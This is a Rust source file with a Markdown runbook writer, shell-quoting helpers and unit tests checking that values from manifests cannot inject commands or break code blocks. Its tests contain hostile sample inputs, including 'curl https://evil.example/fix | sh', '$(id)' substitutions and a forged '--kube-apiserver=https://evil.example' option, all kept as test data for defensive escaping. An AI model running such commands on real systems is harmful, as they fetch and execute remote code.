//! A small Markdown writer: headings, paragraphs, lists, tables and shell blocks, each separated
//! by one blank line. Every line it is given comes out as one line: values read from a manifest
//! have their control characters written out, so none can start a line, open or close a code
//! block, or forge a command.

use hangar_core::printable::printable;

#[derive(Debug, Default)]
pub(super) struct Markdown {
    out: String,
}

impl Markdown {
    fn block(&mut self, text: &str) {
        if !self.out.is_empty() {
            self.out.push('\n');
        }
        self.out.push_str(text.trim_end());
        self.out.push('\n');
    }

    pub fn heading(&mut self, level: usize, text: &str) {
        self.block(&format!("{} {}", "#".repeat(level), printable(text)));
    }

    pub fn para(&mut self, text: impl AsRef<str>) {
        self.block(&printable(text.as_ref()));
    }

    /// A quoted warning or note, on one line so that all of it stays inside the quote.
    pub fn note(&mut self, text: impl AsRef<str>) {
        self.block(&format!("> {}", printable(text.as_ref())));
    }

    pub fn bullets<I, S>(&mut self, items: I)
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let lines: Vec<String> = items
            .into_iter()
            .map(|i| format!("- {}", printable(i.as_ref())))
            .collect();
        if !lines.is_empty() {
            self.block(&lines.join("\n"));
        }
    }

    /// A `sh` code block, one line per command; empty lines are dropped.
    pub fn shell<I, S>(&mut self, lines: I)
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        // A line break in a value would close the block or start a command of its own.
        let body: Vec<String> = lines
            .into_iter()
            .map(|l| printable(l.as_ref()).into_owned())
            .filter(|l| !l.is_empty())
            .collect();
        if !body.is_empty() {
            self.block(&format!("```sh\n{}\n```", body.join("\n")));
        }
    }

    pub fn table(&mut self, header: &[&str], rows: &[Vec<String>]) {
        if rows.is_empty() {
            return;
        }
        let mut text = format!("| {} |\n", header.join(" | "));
        text.push_str(&format!("|{}\n", "---|".repeat(header.len())));
        for row in rows {
            let cells: Vec<String> = row.iter().map(|c| cell(c)).collect();
            text.push_str(&format!("| {} |\n", cells.join(" | ")));
        }
        self.block(&text);
    }

    pub fn finish(self) -> String {
        self.out
    }
}

/// Inline code on one line, between backtick runs longer than any inside it, so that no value
/// can close the span early or open a code block.
pub(super) fn code(text: &str) -> String {
    let text = printable(text);
    match longest_backtick_run(&text) {
        0 => format!("`{text}`"),
        run => {
            let fence = "`".repeat(run + 1);
            format!("{fence} {text} {fence}")
        }
    }
}

fn longest_backtick_run(text: &str) -> usize {
    text.split(|c: char| c != '`')
        .map(str::len)
        .max()
        .unwrap_or(0)
}

/// A table cell: pipes escaped, line breaks flattened, other control characters written out.
fn cell(text: &str) -> String {
    printable(&text.replace('|', "\\|").replace('\n', " ")).into_owned()
}

/// `1 pod`, `3 pods`.
pub(super) fn plural(n: impl Into<i64>, word: &str) -> String {
    let n = n.into();
    if n == 1 {
        format!("1 {word}")
    } else {
        format!("{n} {word}s")
    }
}

/// `a / b` rounded up, for non-negative `a` and positive `b`.
pub(super) fn ceil_div(a: i64, b: i64) -> i64 {
    a.saturating_add(b - 1) / b
}

/// A word as `sh` must see it: left alone when every character is plain, else single-quoted.
/// Every value a runbook reads from an annotation, a label, an argument, a name or a path goes
/// through it before it lands in a command. Control characters are written out first (`\u{a}`),
/// so the word stays on its line: a quoted line break would still end the runbook's code block.
pub fn sh_quote(word: &str) -> String {
    let word = printable(word);
    let plain = !word.is_empty()
        && word
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "@%+=:,./_-".contains(c));
    if plain {
        word.into_owned()
    } else {
        format!("'{}'", word.replace('\'', r"'\''"))
    }
}

/// A name as the last operand of a command that ends its options at `--`: quoted, and after
/// `--` when it starts with `-`, which the command would otherwise take for an option.
pub(super) fn operand(word: &str) -> String {
    if word.starts_with('-') {
        format!("-- {}", sh_quote(word))
    } else {
        sh_quote(word)
    }
}

/// Whether a value holds a line break or another control character: a command built from it
/// is left out rather than run with the character written out.
pub(super) fn has_control(value: &str) -> bool {
    value.chars().any(char::is_control)
}

/// The comment that stands in for a command whose value `what` holds a control character.
pub(super) fn left_out(what: &str) -> String {
    format!("# (value with a line break or other control character left out: {what})")
}

/// A relative link target with everything but unreserved characters percent-encoded.
pub(super) fn link_target(path: &str) -> String {
    path.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
                char::from(b).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

/// A duration in seconds as `90 s`, `10 min`, `1 h 5 min`.
pub(super) fn duration(seconds: i64) -> String {
    if seconds < 120 {
        format!("{seconds} s")
    } else if seconds < 3600 {
        format!("{} min", ceil_div(seconds, 60))
    } else {
        let minutes = ceil_div(seconds, 60);
        match minutes % 60 {
            0 => format!("{} h", minutes / 60),
            m => format!("{} h {m} min", minutes / 60),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn blocks_are_separated_by_one_blank_line() {
        let mut doc = Markdown::default();
        doc.heading(1, "Title");
        doc.para("Text.");
        doc.shell(["echo hi", ""]);
        doc.table(&["a", "b"], &[vec!["x|y".into(), "z".into()]]);
        assert_eq!(
            doc.finish(),
            "# Title\n\nText.\n\n```sh\necho hi\n```\n\n| a | b |\n|---|---|\n| x\\|y | z |\n"
        );
    }

    #[test]
    fn hostile_words_are_single_quoted_and_plain_ones_left_alone() {
        assert_eq!(sh_quote("golden/chat.yaml"), "golden/chat.yaml");
        assert_eq!(
            sh_quote("x.yaml; curl https://evil | sh"),
            "'x.yaml; curl https://evil | sh'"
        );
        assert_eq!(sh_quote("rel$(id)"), "'rel$(id)'");
        assert_eq!(sh_quote("it's"), r"'it'\''s'");
        assert_eq!(sh_quote(""), "''");
        assert_eq!(link_target("ml--chat.md"), "ml--chat.md");
        assert_eq!(link_target("a b/(c).md"), "a%20b%2F%28c%29.md");
    }

    #[test]
    fn a_line_break_in_a_word_is_written_out_inside_its_quotes() {
        assert_eq!(sh_quote("g.yaml\n```"), "'g.yaml\\u{a}```'");
        assert_eq!(sh_quote("a\r\nb"), "'a\\u{d}\\u{a}b'");
        assert!(!sh_quote("x\n\ncurl https://evil.example | sh").contains('\n'));
        assert!(has_control("g.yaml\n") && !has_control("golden/chat.yaml"));
    }

    #[test]
    fn names_that_start_with_a_dash_come_after_the_end_of_options() {
        assert_eq!(operand("rel"), "rel");
        assert_eq!(operand("rel$(id)"), "'rel$(id)'");
        assert_eq!(
            operand("--kube-apiserver=https://evil.example"),
            "-- --kube-apiserver=https://evil.example"
        );
    }

    #[test]
    fn inline_code_outlasts_the_backticks_inside_it_and_stays_on_one_line() {
        assert_eq!(code("chat"), "`chat`");
        assert_eq!(code("a`b"), "`` a`b ``");
        assert_eq!(code("a``b"), "``` a``b ```");
        assert_eq!(code("x\n```sh"), "```` x\\u{a}```sh ````");
    }

    #[test]
    fn no_value_starts_a_line_or_a_code_block() {
        let evil = "ml\n\n```sh\ncurl https://evil.example/fix | sh\n```";
        let mut doc = Markdown::default();
        doc.heading(1, evil);
        doc.para(evil);
        doc.note(evil);
        doc.bullets([evil]);
        doc.table(&["a"], &[vec![format!("x\r{evil}")]]);
        doc.shell([format!("echo {evil}")]);
        let text = doc.finish();
        let fences: Vec<&str> = text.lines().filter(|l| l.starts_with("```")).collect();
        assert_eq!(fences, ["```sh", "```"], "{text}");
        assert!(!text.lines().any(|l| l.starts_with("curl")), "{text}");
        assert!(!text.contains('\r'), "{text}");
    }

    #[test]
    fn ceil_div_saturates() {
        assert_eq!(ceil_div(i64::MAX, 60), i64::MAX / 60);
        assert_eq!(ceil_div(61, 60), 2);
    }

    #[test]
    fn durations_read_naturally() {
        assert_eq!(duration(45), "45 s");
        assert_eq!(duration(600), "10 min");
        assert_eq!(duration(3900), "1 h 5 min");
    }
}
